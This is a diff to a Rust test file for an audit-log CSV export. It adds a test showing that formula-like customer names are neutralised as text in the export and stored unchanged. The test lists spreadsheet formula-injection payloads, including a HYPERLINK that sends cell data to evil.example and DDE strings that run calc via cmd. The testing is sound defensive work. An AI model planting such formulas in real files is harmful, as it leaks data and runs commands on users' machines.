@@ -4,9 +4,11 @@
 use crate::{audit_support, support};
 
 use app::domain::Role;
-use app::services::audit::export::COLUMNS;
+use app::services::audit::export::{spreadsheet_safe, COLUMNS};
+use app::services::audit::{self, NewEvent, Outcome};
 use audit_support::{console_cli, temp_db};
 use futures::StreamExt;
+use serde_json::json;
 use support::TestConsole;
 
 const EVENTS: usize = 100_000;
@@ -23,6 +25,12 @@ const NAMES: [&str; 6] = [
 
 fn name(i: usize) -> &'static str {
     NAMES[i % NAMES.len()]
+}
+
+/// `name(i)` as a CSV cell: the formula-looking one is shown as text (see
+/// `formula_cells_are_shown_as_text_in_csv_and_stored_as_recorded`).
+fn csv_name(i: usize) -> String {
+    spreadsheet_safe(name(i).to_string())
 }
 
 /// 100,000 rows in one statement. Their hashes are placeholders: exports copy rows as stored
@@ -137,7 +145,7 @@ async fn the_http_export_streams_every_row_with_correct_escaping() {
         .collect();
     assert_eq!(customers.len(), EVENTS);
     for (i, customer) in customers.iter().enumerate() {
-        assert_eq!(customer, name(i), "row {i}");
+        assert_eq!(*customer, csv_name(i), "row {i}");
     }
 
     // The same filters as /audit.
@@ -196,7 +204,7 @@ async fn the_cli_exports_csv_and_json_lines() {
     );
     let customers = customers_of_csv(&csv.stdout);
     assert_eq!(customers.len(), EVENTS);
-    assert!(customers.iter().enumerate().all(|(i, c)| c == name(i)));
+    assert!(customers.iter().enumerate().all(|(i, c)| *c == csv_name(i)));
 
     let jsonl = console_cli(&db.url, &["audit", "export", "--format", "jsonl"]);
     assert!(
@@ -343,5 +351,66 @@ async fn stalled_downloads_hold_no_connection_and_each_operator_has_two() {
         .count();
     assert_eq!(acme, 20_000, "every row, page after page");
     drop(stalled);
+    console.stop().await;
+}
+
+#[tokio::test]
+async fn formula_cells_are_shown_as_text_in_csv_and_stored_as_recorded() {
+    let console = TestConsole::start().await;
+    console
+        .add_operator("auditor@example.com", Role::Auditor)
+        .await;
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "a=b, untouched",
+    ];
+    for name in hostile {
+        let mut event = NewEvent::event("limits.total", None, Outcome::Failure, json!({}));
+        event.customer = Some(name.to_string());
+        event.upstream_message = Some(name.to_string());
+        audit::append(&console.pool, event).await.unwrap();
+    }
+    let auditor = console.signed_in("auditor@example.com").await;
+    let body = auditor
+        .get(format!(
+            "{}/audit/export.csv?action=limits.total",
+            console.url()
+        ))
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(&body[..]);
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let (customer, message) = (column("customer"), column("upstream_message"));
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), hostile.len());
+    for (row, name) in rows.iter().zip(hostile) {
+        let expected = if name.starts_with("a=b") {
+            name.to_string()
+        } else {
+            format!("'{name}")
+        };
+        assert_eq!(row[customer], expected);
+        assert_eq!(row[message], expected);
+    }
+
+    // The audit log keeps what was recorded (and JSON lines copy it as stored: see
+    // `the_cli_exports_csv_and_json_lines`).
+    let stored: Vec<String> = sqlx::query_scalar(
+        "SELECT customer FROM audit_events WHERE action = 'limits.total' ORDER BY id",
+    )
+    .fetch_all(&console.pool)
+    .await
+    .unwrap();
+    assert_eq!(stored, hostile);
     console.stop().await;
 }
